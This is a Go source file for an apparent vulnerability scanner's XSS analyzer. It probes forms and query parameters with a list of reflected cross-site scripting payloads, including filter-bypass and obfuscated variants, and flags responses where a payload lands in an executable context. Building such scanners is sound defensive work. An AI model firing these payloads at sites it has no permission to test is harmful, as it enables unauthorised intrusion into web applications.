package analyzer

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"time"

	"github.com/MikhailDrugie/se-attack-modeling/internal/logger"
	"github.com/MikhailDrugie/se-attack-modeling/pkg/scanner"
)

// xssPayloads covers basic vectors, filter bypasses, event handlers,
// URL-based injection, obfuscation and HTML5 vectors.
var xssPayloads = []string{
	"<script>alert('XSS')</script>",
	"<img src=x onerror=alert('XSS')>",
	"<svg/onload=alert('XSS')>",

	"<ScRiPt>alert('XSS')</sCrIpT>",
	"'\"><script>alert(String.fromCharCode(88,83,83))</script>",
	"<iframe src=javascript:alert('XSS')>",

	"<body onload=alert('XSS')>",
	"<input onfocus=alert('XSS') autofocus>",
	"<marquee onstart=alert('XSS')>",

	"javascript:alert('XSS')",
	"data:text/html,<script>alert('XSS')</script>",

	"<script>eval(String.fromCharCode(97,108,101,114,116,40,39,88,83,83,39,41))</script>",

	"<video><source onerror=alert('XSS')>",
	"<audio src=x onerror=alert('XSS')>",

	"<scr<script>ipt>alert('XSS')</script>",
	"<<SCRIPT>alert('XSS');//<</SCRIPT>",
}

// xssSinkPatterns are contexts where a reflected payload executes:
// script tags, event handlers, iframe/img sources, SVG onload and
// javascript: URLs. The payload is appended escaped at match time.
var xssSinkPatterns = []string{
	`<script[^>]*>.*?`,
	`<.*?on\w+\s*=.*?`,
	`<iframe[^>]*src\s*=.*?`,
	`<img[^>]*src\s*=.*?`,
	`<svg[^>]*onload\s*=.*?`,
	`javascript:.*?`,
}

// XSS probes form fields and query parameters for reflected
// cross-site scripting.
type XSS struct {
	Delay time.Duration
	log   *logger.Logger
}

// NewXSS creates an XSS analyzer.
func NewXSS(log *logger.Logger) *XSS {
	if log == nil {
		log = logger.Global()
	}
	return &XSS{
		Delay: defaultProbeDelay,
		log:   log.WithAnalyzer("xss"),
	}
}

// Name implements Analyzer.
func (a *XSS) Name() string { return "xss" }

// Analyze probes every endpoint's forms and query parameters.
func (a *XSS) Analyze(ctx context.Context, session Session, site *scanner.SiteMap) (*Result, error) {
	start := time.Now()
	result := &Result{Analyzer: a.Name()}

	p := &prober{
		payloads: xssPayloads,
		check:    a.checkReflection,
		build:    a.buildFinding,
		delay:    a.Delay,
		log:      a.log,
	}
	err := p.run(ctx, session, site, result)

	result.Duration = time.Since(start)
	a.log.Infof("analysis complete: %d vulnerabilities found", len(result.Vulnerabilities))
	return result, err
}

// checkReflection confirms the payload reflected into an executable
// context. Matching is case-insensitive: HTML tag and attribute names
// are case-insensitive, and so are several of the payloads.
func (a *XSS) checkReflection(payload string, resp *ProbeResponse) (string, bool) {
	body := strings.ToLower(resp.Body)
	needle := strings.ToLower(payload)

	if !strings.Contains(body, needle) {
		return "", false
	}

	for _, sink := range xssSinkPatterns {
		re, err := regexp.Compile(`(?is)` + sink + regexp.QuoteMeta(needle))
		if err != nil {
			continue
		}
		if match := re.FindString(body); match != "" {
			return truncate(match, 200), true
		}
	}

	// Bare reflection of a tag-bearing payload with no entity-encoded
	// copy elsewhere still executes.
	if strings.Contains(needle, "<") && strings.Contains(needle, ">") {
		if !strings.Contains(strings.ReplaceAll(body, needle, ""), "&lt;") {
			return needle, true
		}
	}

	return "", false
}

func (a *XSS) buildFinding(h hit) Vulnerability {
	severity := SeverityHigh
	if strings.Contains(strings.ToLower(h.Payload), "script") {
		severity = SeverityCritical
	}

	evidence := h.Evidence
	if evidence == "" {
		evidence = truncate(h.Payload, 200)
	}

	return Vulnerability{
		Name: fmt.Sprintf("XSS vulnerability in '%s' parameter", h.Param),
		Description: fmt.Sprintf(
			"Cross-Site Scripting (XSS) detected in %s parameter '%s'. "+
				"The application reflects user input without sanitization, allowing "+
				"arbitrary JavaScript execution in the victim's browser. "+
				"Payload: %s",
			h.Method, h.Param, h.Payload),
		Type:      TypeXSS,
		Severity:  severity,
		URL:       h.URL,
		Parameter: h.Param,
		Method:    h.Method,
		Payload:   h.Payload,
		Evidence:  evidence,
		CWE:       "CWE-79",
	}
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n]
}
